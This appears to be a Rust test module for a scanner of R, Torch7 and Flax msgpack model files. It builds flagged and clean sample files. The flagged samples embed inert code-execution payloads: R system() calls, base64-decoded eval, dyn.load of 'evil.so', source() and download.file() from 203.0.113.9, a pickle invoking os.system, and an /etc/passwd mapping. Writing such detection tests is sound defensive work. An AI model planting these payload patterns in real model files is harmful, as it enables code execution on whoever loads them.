//! R, Torch7 and MessagePack.

use super::{Case, bad, good};
use crate::classical::{msgpack as m, r, torch7 as t};

pub(super) fn cases() -> Vec<Case> {
    [r_promises(), r_code(), r_structure(), torch7(), flax()].concat()
}

fn command() -> Vec<u8> {
    r::call("system", &[r::text("echo inert")])
}

fn r_promises() -> Vec<Case> {
    const CLASS: &str = "r-promise";
    let unbound = r::promise(None, &r::unbound(), &command());
    let quiet = r::promise(None, &r::unbound(), &r::call("cat", &[r::text("inert")]));
    let global = r::promise(Some(&r::global()), &r::unbound(), &r::call("f", &[]));
    let forced = r::promise(None, &r::numbers(&[1.0]), &command());
    let waiting = r::promise(
        Some(&r::global()),
        &r::unbound(),
        &r::call("mean", &[r::symbol("x")]),
    );
    let hidden = r::promise(Some(&r::global()), &r::unbound(), &command());
    vec![
        bad(CLASS, "at-the-top", "model.rds", r::rds(&unbound)),
        bad(
            CLASS,
            "in-a-workspace",
            "model.RData",
            r::workspace(&[("model", unbound.clone())]),
        ),
        bad(
            CLASS,
            "in-a-list",
            "model.rds",
            r::rds(&r::model("lm", &[("coefficients", unbound.clone())])),
        ),
        bad(CLASS, "without-a-known-name", "model.rds", r::rds(&quiet)),
        bad(
            CLASS,
            "bound-to-the-global-environment",
            "model.rda",
            r::workspace(&[("m", global.clone())]),
        ),
        bad(
            CLASS,
            "in-an-attribute",
            "model.rds",
            r::rds(&r::model("lm", &[("a", r::pairs(&[("b", global)]))])),
        ),
        bad(
            CLASS,
            "unbound-in-an-environment",
            "model.rds",
            r::rds(&r::environment(&[("x", quiet)])),
        ),
        bad(
            CLASS,
            "command-in-an-argument",
            "model.rds",
            r::rds(&r::environment(&[("x", hidden)])),
        ),
        bad(
            CLASS,
            "bytecode",
            "model.rds",
            r::rds(&r::promise(
                None,
                &r::unbound(),
                &r::bytecode(&[(1, r::symbol("cat"))]),
            )),
        ),
        good(
            CLASS,
            "honest-argument-of-a-closure",
            "model.rds",
            r::rds(&r::environment(&[("x", waiting)])),
        ),
        good(
            CLASS,
            "honest-looked-at",
            "model.rds",
            r::rds(&r::environment(&[("x", forced)])),
        ),
    ]
}

fn r_code() -> Vec<Case> {
    const CLASS: &str = "r-code";
    let rds = |name: &str, object: &[u8]| bad(CLASS, name, "model.rds", r::rds(object));
    let model = |part: Vec<u8>| r::model("lm", &[("call", part)]);
    let qualified = r::call_of(&[
        (
            None,
            r::call("::", &[r::symbol("base"), r::symbol("system")]),
        ),
        (None, r::text("echo inert")),
    ]);
    let decoded = r::call(
        "eval",
        &[r::call(
            "parse",
            &[r::call(
                "rawToChar",
                &[r::call("base64decode", &[r::text("aW5lcnQ=")])],
            )],
        )],
    );
    let plain = r::call("eval", &[r::call("parse", &[r::text("1 + 1")])]);
    let fit = r::call(
        "lm",
        &[
            r::call("~", &[r::symbol("y"), r::symbol("x")]),
            r::symbol("data"),
        ],
    );
    vec![
        rds("command-in-a-call", &model(command())),
        rds(
            "command-in-a-formula",
            &model(r::call("~", &[r::symbol("y"), command()])),
        ),
        rds("command-behind-a-package", &model(qualified)),
        rds(
            "command-by-name",
            &model(r::call(
                "do.call",
                &[r::text("system"), r::text("echo inert")],
            )),
        ),
        rds(
            "command-in-a-link-function",
            &r::model("glm", &[("linkinv", r::closure(&command()))]),
        ),
        rds(
            "command-in-a-block",
            &r::model(
                "glm",
                &[("f", r::closure(&r::call("{", &[fit.clone(), command()])))],
            ),
        ),
        rds(
            "command-in-bytecode",
            &r::closure(&r::bytecode(&[
                (1, r::symbol("system")),
                (16, r::text("echo inert")),
            ])),
        ),
        rds(
            "library-in-a-function",
            &r::closure(&r::call("dyn.load", &[r::text("evil.so")])),
        ),
        rds("decoded-code-in-a-function", &r::closure(&decoded)),
        rds("decoded-code-in-a-call", &model(decoded)),
        rds(
            "source-from-an-address",
            &r::closure(&r::call("source", &[r::text("http://203.0.113.9/a.R")])),
        ),
        rds(
            "download-in-a-call",
            &model(r::call(
                "download.file",
                &[r::text("http://203.0.113.9/a"), r::text("a")],
            )),
        ),
        rds(
            "builtin-object",
            &model(r::call_of(&[
                (None, r::call("get", &[r::text("system")])),
                (None, r::text("echo inert")),
            ])),
        ),
        bad(
            CLASS,
            "first-function",
            "model.RData",
            r::workspace(&[(".First", r::closure(&command()))]),
        ),
        bad(
            CLASS,
            "last-function-quiet",
            "model.RData",
            r::workspace(&[(".Last", r::closure(&r::call("f", &[])))]),
        ),
        bad(
            CLASS,
            "active-binding",
            "model.RData",
            [
                b"RDX2\n".to_vec(),
                r::rds(&r::active("m", &r::closure(&r::call("f", &[])))),
            ]
            .concat(),
        ),
        good(
            CLASS,
            "honest-model",
            "model.rds",
            r::rds(&model(fit.clone())),
        ),
        good(
            CLASS,
            "honest-closure",
            "model.rds",
            r::rds(&r::closure(&fit)),
        ),
        good(
            CLASS,
            "honest-parse",
            "model.rds",
            r::rds(&r::closure(&plain)),
        ),
        good(
            CLASS,
            "honest-download-helper",
            "model.rds",
            r::rds(&r::closure(&r::call(
                "download.file",
                &[r::symbol("url"), r::symbol("to")],
            ))),
        ),
        good(
            CLASS,
            "honest-column-called-system",
            "model.rds",
            r::rds(&model(r::call("~", &[r::symbol("y"), r::symbol("system")]))),
        ),
        good(
            CLASS,
            "honest-system-file",
            "model.rds",
            r::rds(&r::closure(&r::call("system.file", &[r::text("extdata")]))),
        ),
        good(
            CLASS,
            "honest-workspace",
            "model.RData",
            r::workspace(&[
                ("x", r::numbers(&[1.0, 2.0])),
                (
                    "predict_it",
                    r::closure(&r::call("predict", &[r::symbol("x")])),
                ),
            ]),
        ),
    ]
}

fn r_structure() -> Vec<Case> {
    const CLASS: &str = "r-structure";
    let sequence = r::numbers(&[10.0, 1.0, 1.0]);
    vec![
        bad(
            CLASS,
            "length-lie",
            "model.rds",
            r::rds(&r::lying_numbers(0x7fff_ff00)),
        ),
        bad(
            CLASS,
            "length-negative",
            "model.rds",
            r::rds(&r::lying_numbers(0xffff_ff00)),
        ),
        bad(
            CLASS,
            "reference-outside",
            "model.rds",
            r::rds(&r::model("lm", &[("a", r::reference(500))])),
        ),
        bad(
            CLASS,
            "mapped-file",
            "model.rds",
            r::rds(&r::altrep("mmap_real", "base", &r::text("/etc/passwd"))),
        ),
        bad(
            CLASS,
            "unknown-representation",
            "model.rds",
            r::rds(&r::altrep("shell_string", "base", &r::null())),
        ),
        good(
            CLASS,
            "honest-sequence",
            "model.rds",
            r::rds(&r::altrep("compact_realseq", "base", &sequence)),
        ),
        good(
            CLASS,
            "honest-nesting",
            "model.rds",
            r::rds(&r::nested(2_000)),
        ),
    ]
}

fn torch7() -> Vec<Case> {
    const CLASS: &str = "torch7";
    let code = b"\x1bLuaQ\0\x01\x04\x04\x04\x08\0inert";
    let deep: Vec<u8> = (5..2_000)
        .flat_map(|index: i32| {
            [
                3_i32.to_le_bytes(),
                index.to_le_bytes(),
                1_i32.to_le_bytes(),
                0_i32.to_le_bytes(),
            ]
            .concat()
        })
        .collect();
    let file = |name: &str, bytes: Vec<u8>| bad(CLASS, name, "model.t7", bytes);
    let ascii = "4\n1\n3\nV 1\n12\nevil.Payload\n3\n2\n0\n";
    vec![
        file(
            "function-legacy",
            t::layer(&[(t::text("forward"), t::function(6, 9, code))]),
        ),
        file(
            "function-with-variables",
            t::layer(&[(t::text("forward"), t::function(8, 9, code))]),
        ),
        file(
            "function-old",
            t::layer(&[(t::text("forward"), t::function(7, 9, b"\x1bLJ\x01inert"))]),
        ),
        file("function-at-the-top", t::function(8, 1, code)),
        file(
            "unknown-class",
            t::object(1, "evil.Payload", &t::counted_table(2, 0, &[])),
        ),
        file(
            "unknown-class-inside",
            t::layer(&[(
                t::text("x"),
                t::object(9, "Payload", &t::counted_table(10, 0, &[])),
            )]),
        ),
        file("unknown-class-ascii", ascii.as_bytes().to_vec()),
        file(
            "storage-lie",
            t::tensor(1, 4, 1, &t::storage(2, 1 << 40, &[0.0; 4])),
        ),
        file(
            "storage-negative",
            t::tensor(1, 4, 1, &t::storage(2, -4, &[0.0; 4])),
        ),
        file(
            "tensor-outside",
            t::tensor(1, 4000, 1, &t::storage(2, 4, &[0.0; 4])),
        ),
        file(
            "tensor-stride-negative",
            t::tensor(1, 4, -900, &t::storage(2, 4, &[0.0; 4])),
        ),
        file(
            "table-lie",
            t::object(1, "nn.Linear", &t::counted_table(2, i32::MAX, &[])),
        ),
        file(
            "nesting",
            [t::object(1, "nn.Linear", &[])[..].to_vec(), deep].concat(),
        ),
        good(
            CLASS,
            "honest-layer",
            "model.t7",
            t::layer(&[(t::text("train"), t::number(0.0))]),
        ),
        good(
            CLASS,
            "honest-cuda",
            "model.t7",
            t::object(
                1,
                "cudnn.SpatialConvolution",
                &t::counted_table(2, 1, &[(t::text("kW"), t::number(3.0))]),
            ),
        ),
        good(
            CLASS,
            "honest-table",
            "model.t7",
            t::counted_table(
                1,
                2,
                &[
                    (t::number(1.0), t::layer_at(20)),
                    (t::text("name"), t::text("resnet")),
                ],
            ),
        ),
    ]
}

fn flax() -> Vec<Case> {
    const CLASS: &str = "flax-msgpack";
    let file = |name: &str, bytes: Vec<u8>| bad(CLASS, name, "flax_model.msgpack", bytes);
    let with = |value: Vec<u8>| m::flax(&[("extra", value)]);
    let pickle = b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x0aecho inert\x85R.";
    let deep = [b"\x81\xa1a".repeat(30_000), vec![0xc0]].concat();
    let nested = [b"\x91".repeat(30_000), vec![0xc0]].concat();
    vec![
        file("pickle-inside", with(m::binary(pickle))),
        file("object-array", with(m::ndarray(&[1], "object", pickle))),
        file(
            "unknown-element",
            with(m::ndarray(&[1], "os.system", &[0; 4])),
        ),
        file(
            "shape-lie",
            with(m::ndarray(&[1 << 30, 1 << 20], "float32", &[0; 8])),
        ),
        file(
            "shape-overflow",
            with(m::ndarray(
                &[2_000_000_000, 2_000_000_000, 2_000_000_000],
                "float32",
                &[0; 8],
            )),
        ),
        file(
            "shape-negative",
            with(m::ndarray(&[-1], "float32", &[0; 4])),
        ),
        file(
            "shape-too-small",
            with(m::ndarray(&[1], "float32", &[0; 4000])),
        ),
        file("array-length-lie", with(m::lying(0xdd))),
        file("map-length-lie", with(m::lying(0xdf))),
        file("text-length-lie", with(m::lying(0xdb))),
        file("binary-length-lie", with(m::lying(0xc6))),
        file("nesting-maps", deep),
        file("nesting-arrays", nested),
        file("duplicate-key", m::flax(&[("params", m::integer(1))])),
        file(
            "code-in-a-text",
            with(m::text("__import__('os').system('echo inert')")),
        ),
        good(
            CLASS,
            "honest",
            "flax_model.msgpack",
            m::flax(&[("step", m::integer(7))]),
        ),
        good(
            CLASS,
            "honest-other-data",
            "vocab.msgpack",
            m::map(&[
                ("tokens", m::array(&[m::text("a"), m::text("b")])),
                ("counts", m::array(&[m::integer(1), m::integer(2)])),
            ]),
        ),
        good(
            CLASS,
            "honest-scalar",
            "flax_model.msgpack",
            m::flax(&[(
                "x",
                m::extension(
                    3,
                    &m::array(&[m::array(&[]), m::text("float32"), m::binary(&[0; 4])]),
                ),
            )]),
        ),
        good(
            CLASS,
            "honest-foreign-type",
            "data.msgpack",
            m::map(&[
                ("when", m::extension(0xff, &[0; 4])),
                ("what", m::extension(42, &[1, 2, 3])),
                ("who", m::text("me")),
            ]),
        ),
        good(
            CLASS,
            "honest-random-bytes",
            "data.msgpack",
            m::map(&[
                ("blob", m::binary(b"\x80\x03\x17\x88\x01\x02\x03\x04\x05")),
                ("name", m::text("noise")),
            ]),
        ),
    ]
}
